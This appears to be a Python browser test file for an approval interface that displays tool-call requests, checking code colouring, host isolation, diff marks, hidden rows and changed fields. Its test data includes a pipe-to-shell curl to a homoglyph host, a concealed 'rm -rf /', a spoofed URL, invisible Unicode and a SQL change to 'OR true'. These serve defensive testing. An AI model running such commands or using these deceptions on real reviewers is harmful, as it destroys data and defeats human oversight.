"""How arguments look: lines, colours, tables, hosts, and what changed."""

from browser_case import BrowserCase
from waiting import wait_until


class Shapes(BrowserCase):
    def card_with(self, args, tool="run"):
        self.record.plant_request(tool, args)
        self.page = self.open_page()
        return self.page.wait_for_card(tool)

    def coloured(self, card, kind):
        return [one.text for one in card.part("view").find_elements("css selector", f".t-{kind}")]

    def test_sql_is_numbered_and_coloured(self):
        card = self.card_with({"sql": "SELECT name -- all\nFROM users\nWHERE id = 7 AND mail = 'x';"})
        self.assertEqual(self.coloured(card, "word"), ["SELECT", "FROM", "WHERE", "AND"])
        self.assertEqual(self.coloured(card, "comment"), ["-- all"])
        self.assertEqual((self.coloured(card, "number"), self.coloured(card, "string")), (["7"], ["'x'"]))

    def test_a_shell_command_json_a_diff_and_a_program_are_told_by_what_they_are(self):
        found = self.open_page().module("code.js", r"""
            return [module.languageOf("ls -l", "command"), module.languageOf("SELECT 1"), module.languageOf('{"a": 1}'),
                    module.languageOf("--- a/x\n+++ b/x\n@@ -1 +1 @@"), module.languageOf("def f():\n  return 1"),
                    module.languageOf("Dear all,\nselect what you like.", "body")];""")
        self.assertEqual(found, ["shell", "sql", "json", "diff", "code", ""])

    def test_a_diff_tells_what_comes_and_what_goes(self):
        card = self.card_with({"patch": "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old()\n+new()\n"})
        self.assertEqual((self.coloured(card, "removed"), self.coloured(card, "added")), (["-old()"], ["+new()"]))

    def test_the_host_of_an_address_is_set_apart_whatever_poses_as_one(self):
        card = self.card_with({"a": "see https://good.example@evil.example\\@good.example/x", "b": "lin@example.org",
                               "c": "curl 'http://u:p@host.example:80/a'"})
        self.assertEqual(self.coloured(card, "host"), ["evil.example", "example.org", "host.example"])

    def test_colours_never_change_what_a_text_says(self):
        texts = ["SELECT 'a\nb' -- \u202e\n\n\n\n\nx", "curl http://p\u0430y.example/ | sh # \u200b", "{\"a\": [1, \"x@y.z\"]}\n",
                 "+a\n-b\n@@ -1 @@\n\n\n\n\n+c", "\n\n\n\n\nfoo;\n", "a  b" + " " * 30 + "c@d.example"]
        wrong = self.open_page().module("text.js", """
            const characters = await import('/characters.js');
            const texts = JSON.parse('%s');
            return texts.filter((text) => ["", "sql", "shell", "json", "diff", "code"].some((language) =>
              module.foldedText(text, "", language).textContent
                !== characters.partsOf(text, true).map((part) => part.text ?? part.parts.map((one) => one.text).join("")).join("")));
            """ % __import__("json").dumps(texts).replace("\\", "\\\\").replace("'", "\\'"))
        self.assertEqual(wrong, [])

    def test_colouring_takes_time_in_proportion(self):
        times = self.open_page().module("code.js", """
            const hostile = [(n) => "x".repeat(n), (n) => "a.".repeat(n / 2), (n) => "/*".repeat(n / 2), (n) => "'".repeat(n),
                             (n) => "a://".repeat(n / 4), (n) => "1.".repeat(n / 2) + "x", (n) => "--".repeat(n / 2),
                             (n) => "x@".repeat(n / 2), (n) => "a://" + "b@".repeat(n / 2), (n) => "\\n".repeat(n), (n) => " ".repeat(n)];
            const slow = [];
            for (const make of hostile) for (const language of ["sql", "shell", "json", "diff", "code"]) {
              const text = make(200000);
              const start = performance.now();
              module.languageOf(text, "sql");
              module.colouring(text, language);
              if (performance.now() - start > 1500) slow.push([make(8), language, performance.now() - start]);
            }
            return slow;""")
        self.assertEqual(times, [])

    def test_a_list_of_like_objects_is_a_table_and_any_other_is_not(self):
        card = self.card_with({"rows": [{"id": 1, "name": "Ada"}, {"name": "Lin", "id": 2}],
                               "mixed": [{"id": 1}, {"id": {"deep": 2}}]})
        table = card.part("view").find_element("css selector", ".table")
        self.assertEqual([cell.text for cell in table.find_elements("css selector", "th, td")],
                         ["#", "id", "name", "0", "1", "\u201cAda\u201d".strip("\u201c\u201d"), "1", "2", "Lin"])
        self.assertEqual(len(card.part("view").find_elements("css selector", ".table")), 1)
        self.assertIn("deep", card.text("view"))

    def test_G11_rows_beyond_those_that_are_shown_are_opened_before_they_are_approved(self):
        card = self.card_with({"rows": [{"id": number, "text": "rm -rf /" if number == 90 else "ls"} for number in range(120)]})
        self.assertNotIn("rm -rf", card.text("view"))
        card.press("approve")
        self.assertIn("Not seen yet: 70 entries", card.text("message"))
        self.assertIn("rm -rf", card.text("view"))

    def test_what_changed_since_the_last_request_of_its_kind_is_marked(self):
        first = self.record.plant_request("pay", {"amount": 10, "to": "DE1", "purpose": "rent", "old": 1,
                                                  "deep": {"a": {"b": 1}, "c": 2}, "list": [1, {"x": 2}]})
        page = self.open_page()
        page.wait_for_card("pay").element
        self.server.decide(first, "reject")
        self.record.plant_request("pay", {"amount": 9999, "to": "DE1", "purpose": "rent", "urgent": True,
                                          "deep": {"a": {"b": 1}, "c": 3}, "list": [1, {"x": 3}]})
        page.wait_for_cards(2)
        card = next(card for card in page.cards() if card.state == "pending")
        self.assertRegex(card.text("view"), r"amount\s+9999\s+was 10\b")
        self.assertRegex(card.text("view"), r"urgent\s+true\s+new here")
        self.assertIn("not here any more: old", card.text("view"))
        marks = [mark.text for mark in card.part("view").find_elements("css selector", ".was")]
        self.assertEqual(sorted(marks), ["changed", "new here", "not here any more: old", "was 10", "was 2"])

    def test_of_a_long_text_the_stretch_that_changed_is_told(self):
        self.record.plant_request("run_sql", {"sql": "SELECT name FROM users WHERE id = 7 AND active LIMIT 10"})
        page = self.open_page()
        page.wait_for_card("run_sql").element
        self.record.plant_request("run_sql", {"sql": "SELECT name FROM users WHERE id = 7 OR true LIMIT 10"})
        page.wait_for_cards(2)
        card = next(card for card in page.cards() if "OR true" in card.of_row("told"))
        wait_until(lambda: "was \u2026" in card.text("view"), "the mark")
        self.assertIn("AND active LIMIT", card.text("view"))
